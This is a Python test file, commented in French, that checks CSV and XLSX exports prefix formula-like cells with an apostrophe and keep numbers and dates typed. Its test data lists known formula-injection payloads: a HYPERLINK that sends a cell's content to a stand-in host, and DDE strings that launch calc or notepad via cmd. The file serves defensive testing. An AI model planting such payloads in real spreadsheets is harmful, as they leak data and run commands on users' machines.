"""Exports CSV et XLSX sûrs pour un tableur : aucune cellule n'est une formule, nombres et dates restent typés."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from weker.exports import neutraliser, tableau_csv, tableau_xlsx

# Charges connues d'injection de formules (OWASP « CSV injection ») : chacune serait évaluée par un tableur.
CHARGES = [
    '=HYPERLINK("http://exemple.org/?"&B2;"Ouvrir")',
    "=1+1",
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]
SURS = ["Dupont", "Le Gall", "N'Diaye", "3 rue de la Paix", "", "a=b", "x-y"]


@pytest.mark.parametrize("charge", CHARGES)
def test_une_charge_est_precedee_d_une_apostrophe(charge):
    assert neutraliser(charge) == "'" + charge


@pytest.mark.parametrize("texte", SURS)
def test_un_texte_ordinaire_est_intact(texte):
    assert neutraliser(texte) == texte


def _cellules_csv(contenu):
    return list(csv.reader(io.StringIO(contenu.decode("utf-8-sig")), delimiter=";"))


def test_csv_aucune_cellule_ne_commence_comme_une_formule():
    lignes = [[charge, Decimal("-12.50"), -3, datetime.date(2008, 4, 17)] for charge in CHARGES]
    rangees = _cellules_csv(tableau_csv(["=Nom", "Montant", "Écart", "Naissance"], lignes))
    assert rangees[0] == ["'=Nom", "Montant", "Écart", "Naissance"]
    for charge, rangee in zip(CHARGES, rangees[1:], strict=True):
        assert rangee[0] == "'" + charge
        # Un nombre négatif n'est pas une formule : il reste lisible comme un nombre par le tableur.
        assert rangee[1:] == ["-12,50", "-3", "17/04/2008"]


def test_xlsx_aucune_formule_et_nombres_dates_types():
    lignes = [[charge, Decimal("-12.50"), -3, datetime.date(2008, 4, 17)] for charge in CHARGES]
    classeur = load_workbook(io.BytesIO(tableau_xlsx(["=Nom", "Montant", "Écart", "Naissance"], lignes)))
    feuille = classeur.active
    assert feuille["A1"].value == "'=Nom"
    for numero, charge in enumerate(CHARGES, start=2):
        nom, montant, ecart, naissance = feuille[numero]
        # XML normalise le retour chariot en saut de ligne : la cellule reste du texte précédé de l'apostrophe.
        assert nom.data_type == "s" and nom.value == "'" + charge.replace("\r", "\n")
        assert montant.data_type == "n" and montant.value == -12.5
        assert ecart.data_type == "n" and ecart.value == -3
        assert naissance.is_date and naissance.value.date() == datetime.date(2008, 4, 17)
    assert not [c.coordinate for rangee in feuille.iter_rows() for c in rangee if c.data_type == "f"]
